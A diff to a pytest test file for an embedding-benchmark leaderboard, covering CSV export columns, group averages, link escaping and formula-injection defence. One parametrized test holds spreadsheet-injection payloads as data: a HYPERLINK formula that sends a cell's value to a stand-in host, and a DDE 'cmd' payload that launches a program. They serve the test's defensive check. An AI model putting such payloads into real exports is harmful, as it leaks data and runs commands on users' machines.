@@ -1,12 +1,16 @@
+import csv
+import io
 from pathlib import Path
 
 import pytest
 from markdown_it import MarkdownIt
 from support.runs import NAMES, report, write
 
-from mmeb.leaderboard.entries import Board, load_board
-from mmeb.leaderboard.markdown import readme
+from mmeb.leaderboard.board import Board, load_board
+from mmeb.leaderboard.tables import readme, table_csv
 from mmeb.results import published
+from mmeb.results.averages import averages
+from mmeb.tasks import GROUPS
 
 
 @pytest.fixture
@@ -93,3 +97,29 @@ def test_a_name_stays_a_name(tmp_path: Path, name: str) -> None:
     assert f"<li>{escaped}: CIRR: precision@1" in html
     assert "<script" not in html
     assert "<code>code" not in html
+
+
+def test_the_csv_has_exactly_the_columns_and_every_mean_is_of_the_tasks_beside_it(tmp_path: Path) -> None:
+    published.write_all(tmp_path)
+    write(tmp_path / "part.json", report(name='odd, "name"\t', tasks=NAMES[:30]))
+    read = list(csv.DictReader(io.StringIO(table_csv(load_board(tmp_path)))))
+    assert list(read[0]) == ["model", *GROUPS, *NAMES]
+    assert len(read) == 34
+    for row in read:
+        scores = {name: float(row[name]) for name in NAMES if row[name]}
+        for group, mean in averages(scores).items():
+            assert row[group] == "" if mean is None else float(row[group]) == pytest.approx(mean, abs=1e-9)
+    assert read[0]["overall"] == "80.12222222222222"
+    assert read[13]["model"] == 'odd, "name"'
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://a.b/?"&B2,"CLIP")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1"])
+def test_no_name_starts_a_formula(tmp_path: Path, name: str) -> None:
+    write(tmp_path / "x.json", report(name=name))
+    assert next(csv.DictReader(io.StringIO(table_csv(load_board(tmp_path)))))["model"] == f"'{name}"
+
+
+def test_a_link_stays_in_its_cell(tmp_path: Path) -> None:
+    url = "https://example.org/a|b|99.9`c?d=e#f"
+    write(tmp_path / "x.json", report(metadata={"url": url}))
+    assert "](<https://example.org/a%7Cb%7C99.9%60c?d=e#f>)" in readme(load_board(tmp_path))
